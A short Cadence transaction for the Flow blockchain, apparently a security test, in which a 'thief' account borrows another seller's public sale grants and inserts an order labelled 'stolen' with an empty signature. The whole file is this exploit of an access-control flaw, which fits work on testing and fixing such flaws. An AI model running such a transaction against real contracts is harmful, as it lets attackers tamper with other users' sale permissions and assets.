import "NonFungibleToken"
import "Collectible"
import "SalePermission"

/// Adds an order to somebody else's grants, through what they show.
transaction(seller: Address, agent: Address) {
    prepare(thief: auth(IssueStorageCapabilityController) &Account) {
        let grants = SalePermission.borrowGrants(seller)!
        grants.add(
            capability: thief.capabilities.storage.issue<auth(NonFungibleToken.Withdraw) &Collectible.Collection>(
                Collectible.CollectionStoragePath
            ),
            agent: agent,
            orderId: "stolen",
            refId: "stolen",
            nftId: 1,
            version: 1,
            metadata: [],
            signature: [],
            keyIndex: 0
        )
    }
}
